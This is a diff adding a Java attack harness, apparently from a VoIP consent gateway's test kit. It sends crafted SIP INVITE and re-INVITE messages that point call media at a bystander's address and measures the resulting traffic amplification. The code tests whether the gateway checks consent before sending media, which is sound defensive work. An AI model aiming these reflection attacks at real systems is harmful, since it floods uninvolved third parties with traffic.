@@ -1,0 +1,80 @@
+package org.consentgateway.testkit.attack;
+
+import java.io.IOException;
+import java.io.PrintStream;
+import java.net.DatagramSocket;
+import java.util.Arrays;
+import java.util.List;
+
+/** Attacks a gateway that runs, and prints what came of it: {@code scripts/attack}. */
+public final class Attack {
+    private static final int PATIENCE_MILLIS = 5000;
+
+    private final Target target;
+    private final PrintStream out;
+
+    private Attack(Target target, PrintStream out) {
+        this.target = target;
+        this.out = out;
+    }
+
+    /** The name of an attack, and options with their values. */
+    public static void main(String[] args) throws Exception {
+        List<String> words = Arrays.asList(args);
+        Attack attack = new Attack(Target.of(words.subList(1, words.size())), System.out);
+        switch (words.getFirst()) {
+            case "reflection" -> attack.reflection();
+            case "move" -> attack.move();
+            default -> throw new IllegalArgumentException(words.getFirst());
+        }
+    }
+
+    /** One INVITE with somebody else's address in its description. */
+    private void reflection() throws IOException, InterruptedException {
+        try (DatagramSocket socket = RawCall.socket(target);
+                Bystander bystander = Bystander.at(target.bystander())) {
+            RawCall call = new RawCall(socket, target);
+            call.invites(RawCall.sdp(target.bystander(), bystander.port()));
+            int status = call.answer(PATIENCE_MILLIS);
+            if (target.acknowledge() || status >= 300) {
+                call.acknowledges();
+            }
+            Thread.sleep(target.seconds() * 1000L);
+            report("INVITE", status, call, bystander);
+            if (target.acknowledge() && status < 300) {
+                call.hangsUp();
+            }
+        }
+    }
+
+    /** A call that moves its media to somebody else (re-INVITE). */
+    private void move() throws IOException, InterruptedException {
+        try (DatagramSocket socket = RawCall.socket(target);
+                Bystander own = Bystander.at(target.from());
+                Bystander bystander = Bystander.at(target.bystander())) {
+            RawCall call = new RawCall(socket, target);
+            call.invites(RawCall.sdp(target.from(), own.port()));
+            out.println("INVITE: " + call.answer(PATIENCE_MILLIS));
+            call.acknowledges();
+            call.invitesAgain(RawCall.sdp(target.bystander(), bystander.port()));
+            int status = call.answer(PATIENCE_MILLIS);
+            call.acknowledges();
+            Thread.sleep(target.seconds() * 1000L);
+            report("re-INVITE", status, call, bystander);
+            call.hangsUp();
+        }
+    }
+
+    private void report(String what, int status, RawCall call, Bystander bystander) {
+        out.printf(
+                "%s: %d; sent %d octets; the bystander got %d packets, %d octets in %d s: factor"
+                        + " %.2f%n",
+                what,
+                status,
+                call.sent(),
+                bystander.packets(),
+                bystander.octets(),
+                target.seconds(),
+                (double) bystander.octets() / call.sent());
+    }
+}
